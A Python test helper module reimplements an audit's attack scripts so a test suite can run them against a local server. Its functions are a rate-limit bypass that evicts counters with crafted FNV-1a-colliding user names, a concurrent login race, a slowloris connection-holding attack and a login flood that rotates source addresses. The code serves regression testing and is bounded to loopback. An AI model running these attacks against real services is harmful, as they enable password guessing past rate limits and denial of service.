"""The audit's attack scripts (docs/security.md, "The audit of 2026-12-07"), with their logic
unchanged, as functions a test runs against a server of its own:

  rl_bypass()   scripts/rl_bypass2.py: keep evicting one's own failure counter from an unkeyed
                FNV-1a table (16384 slots, 8 probes) with crafted user names;
  login_race()  scripts/loginrace.py: N logins from one address at once, the last one right;
  slowloris()   scripts/slowloris.py: connections that never finish their headers;
  login_flood() scripts/loginflood.py: wrong-password logins from many addresses, each
                changing address every 9 attempts, while /api/health is timed.

Loopback only (the extra source addresses are 127.x.y.z); every loop is bounded in count and
time. The loads run in a process of their own (python3 attacks.py NAME ARGS... prints JSON), so
the process timing /api/health is not slowed by its own threads.
"""
import copy
import itertools
import json
import select
import socket
import subprocess
import sys
import threading
import time

HOST = "127.0.0.1"


def http_status(port, request, src=HOST, timeout=10):
    """Sends one raw request from source address src; the answer's status ("none" when the
    connection closed without one) and body."""
    s = socket.socket()
    s.settimeout(timeout)
    try:
        s.bind((src, 0))
        s.connect((HOST, port))
        s.sendall(request)
        data = b""
        while True:
            x = s.recv(65536)
            if not x:
                break
            data += x
    except OSError:
        data = b""
    finally:
        s.close()
    if not data.startswith(b"HTTP/"):
        return "none", b""
    return data.split(b" ", 2)[1].decode(), data.partition(b"\r\n\r\n")[2]


def login_request(user, password):
    body = json.dumps({"username": user, "password": password}).encode()
    return (b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
            % len(body) + body)


HEALTH = b"GET /api/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def health_probe(port, src=HOST):
    """Seconds one GET /api/health takes (connect to last byte), or None when it failed."""
    t = time.monotonic()
    status, _ = http_status(port, HEALTH, src, timeout=5)
    return time.monotonic() - t if status == "200" else None


# --- rl_bypass2.py --------------------------------------------------------------------------

N_SLOTS, PROBES = 16384, 8


def _fnv(s):
    h = 1469598103934665603
    for c in s.encode():
        h ^= c
        h = (h * 1099511628211) & 0xFFFFFFFFFFFFFFFF
    return h or 1


class _Model:
    """The old table, as the script models it."""

    def __init__(self):
        self.slots = {}
        self.clock = 0

    def find(self, h, create):
        victim = None
        for i in range(PROBES):
            idx = (h + i) % N_SLOTS
            sl = self.slots.get(idx)
            if sl and sl[0] == h:
                return idx
            vs = self.slots.get(victim) if victim is not None else None
            if victim is None or (sl is None and vs is not None) or \
                    (sl is not None and vs is not None and sl[1] < vs[1]):
                victim = idx
        if not create:
            return None
        self.slots[victim] = [h, self.clock, 0]
        return victim

    def count(self, key):
        i = self.find(_fnv(key), False)
        return self.slots[i][2] if i is not None else 0

    def fail(self, keys):
        for key in keys:
            self.clock += 1
            i = self.find(_fnv(key), True)
            self.slots[i][2] += 1


def rl_bypass(port, src, targets, attempts, limit=10):
    """Wrong-password guesses at targets from src, interleaved with filler names chosen to evict
    src's own address counter. Returns {"attempts", "results": {"guess 401": n, ...},
    "guesses": {target: n}, "first_429": attempt or None}."""
    ipkey = "ip:" + src
    b_ip = _fnv(ipkey) % N_SLOTS

    def fill_gen():
        for k in itertools.count():
            u = "z%d" % k
            if _fnv("user:%s|%s" % (u, src)) % N_SLOTS == b_ip:
                yield u
    fillers = fill_gen()
    probe_cache = []

    def next_probe(k):
        while len(probe_cache) <= k:
            probe_cache.append(next(fillers))
        return probe_cache[k]

    def keys(user):
        return (ipkey, "user:%s|%s" % (user, src))

    def safe_after(m):
        m = copy.deepcopy(m)
        k = 0
        while m.count(ipkey) > 0:
            if m.count(ipkey) >= limit or k > 20:
                return False
            m.fail(keys(next_probe(k)))
            k += 1
        return True

    m = _Model()
    res, guesses, first_429 = {}, {t: 0 for t in targets}, None
    a = 0
    for a in range(attempts):
        t = min(targets, key=lambda x: m.count("user:%s|%s" % (x, src)))
        trial = copy.deepcopy(m)
        trial.fail(keys(t))
        if m.count(ipkey) < limit and m.count("user:%s|%s" % (t, src)) < limit - 1 \
                and safe_after(trial):
            user, kind = t, "guess"
        else:
            user = probe_cache.pop(0) if probe_cache else next(fillers)
            kind = "filler"
        code, _ = http_status(port, login_request(user, "not-the-password-%d" % a), src)
        res["%s %s" % (kind, code)] = res.get("%s %s" % (kind, code), 0) + 1
        if code == "401":
            m.fail(keys(user))
        if kind == "guess":
            guesses[user] += 1
        if code == "429":
            first_429 = a
            break
    return {"attempts": a + 1, "results": res, "guesses": guesses, "first_429": first_429}


# --- loginrace.py ---------------------------------------------------------------------------

def login_race(port, src, n, user, good_password=None):
    """n logins from src sent at one instant (a barrier), the last with good_password. Returns
    {"statuses": {status: count}, "token_for": [indexes answered with a token]}."""
    results = []
    lock = threading.Lock()
    barrier = threading.Barrier(n)

    def one(i):
        pw = good_password if (good_password and i == n - 1) else "guess%d" % i
        req = login_request(user, pw)
        s = socket.socket()
        s.settimeout(30)
        data = b""
        try:
            s.bind((src, 0))
            s.connect((HOST, port))
            barrier.wait(timeout=30)
            s.sendall(req)
            while True:
                d = s.recv(65536)
                if not d:
                    break
                data += d
        except (OSError, threading.BrokenBarrierError):
            pass
        finally:
            s.close()
        code = data.split(b" ", 2)[1].decode() if data.startswith(b"HTTP/") else "none"
        with lock:
            results.append((i, code, b'"token"' in data))
    threads = [threading.Thread(target=one, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    statuses = {}
    for _, code, _ in results:
        statuses[code] = statuses.get(code, 0) + 1
    return {"statuses": statuses, "token_for": [i for i, _, tok in results if tok]}


# --- slowloris.py ---------------------------------------------------------------------------

def _closed(s):
    """Whether the server closed s (an end of stream or a reset is waiting)."""
    try:
        r, _, _ = select.select([s], [], [], 0)
        if not r:
            return False
        return s.recv(1, socket.MSG_PEEK) == b""
    except OSError:
        return True


def slowloris(port, n, hold_s, src):
    """n connections from src, each sending unfinished headers and one more header line a
    second, for hold_s seconds. Returns {"opened", "failed", "open_after_1s", "open_at_end"}:
    how many the server still held a second after opening, and at the end."""
    socks, failed = [], 0
    for _ in range(n):
        try:
            s = socket.socket()
            s.settimeout(5)
            s.bind((src, 0))
            s.connect((HOST, port))
            s.sendall(b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n")
            socks.append(s)
        except OSError:
            failed += 1
    opened = len(socks)
    end = time.monotonic() + hold_s
    open_after_1s = None
    started = time.monotonic()
    while time.monotonic() < end:
        for s in socks[:]:
            try:
                if _closed(s):
                    raise OSError("closed")
                s.sendall(b"X-a: b\r\n")
            except OSError:
                socks.remove(s)
                s.close()
        if open_after_1s is None and time.monotonic() - started >= 1:
            open_after_1s = len(socks)
        time.sleep(1)
    for s in socks[:]:
        if _closed(s):
            socks.remove(s)
            s.close()
    open_at_end = len(socks)
    for s in socks:
        s.close()
    return {"opened": opened, "failed": failed, "open_after_1s": open_after_1s,
            "open_at_end": open_at_end}


# --- loginflood.py --------------------------------------------------------------------------

def login_flood(port, n, seconds, base=10):
    """n clients, client i from 127.0.<base+i>.x, send wrong-password logins back to back for
    seconds, each taking a fresh source address every 9 attempts (under the per-address limit).
    Returns {"statuses": {status: count}}."""
    stop = time.monotonic() + seconds
    counts = {}
    lock = threading.Lock()

    def worker(i):
        k = 0
        while time.monotonic() < stop and k < 100000:
            src = "127.0.%d.%d" % (base + i, 1 + (k // 9) % 250)
            code, _ = http_status(port, login_request("alice", "x"), src, timeout=30)
            with lock:
                counts[code] = counts.get(code, 0) + 1
            k += 1
    threads = [threading.Thread(target=worker, args=(i,)) for i in range(n)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(seconds + 60)
    return {"statuses": counts}


# --- running a load in a process of its own -------------------------------------------------

LOADS = {"slowloris": slowloris, "login_flood": login_flood}


def start_load(name, *args):
    """Starts load name (slowloris or login_flood) with args in a child process; its result is
    load_result(proc)."""
    return subprocess.Popen([sys.executable, __file__, name, json.dumps(args)],
                            stdout=subprocess.PIPE, text=True)


def load_result(proc, timeout=120):
    out, _ = proc.communicate(timeout=timeout)
    return json.loads(out)


def time_health(port, seconds, interval=0.02, src=HOST, until=None):
    """Probes GET /api/health every interval for seconds (or until until() is true, at most
    seconds). Returns the latencies (s), sorted, with a failed probe as infinity."""
    lat = []
    end = time.monotonic() + seconds
    while time.monotonic() < end and not (until and until()):
        d = health_probe(port, src)
        lat.append(float("inf") if d is None else d)
        time.sleep(interval)
    return sorted(lat)


def p99(sorted_latencies):
    """The 99th percentile (nearest rank) of sorted latencies."""
    n = len(sorted_latencies)
    return sorted_latencies[max(0, -(-99 * n // 100) - 1)]


if __name__ == "__main__":
    print(json.dumps(LOADS[sys.argv[1]](*json.loads(sys.argv[2]))))
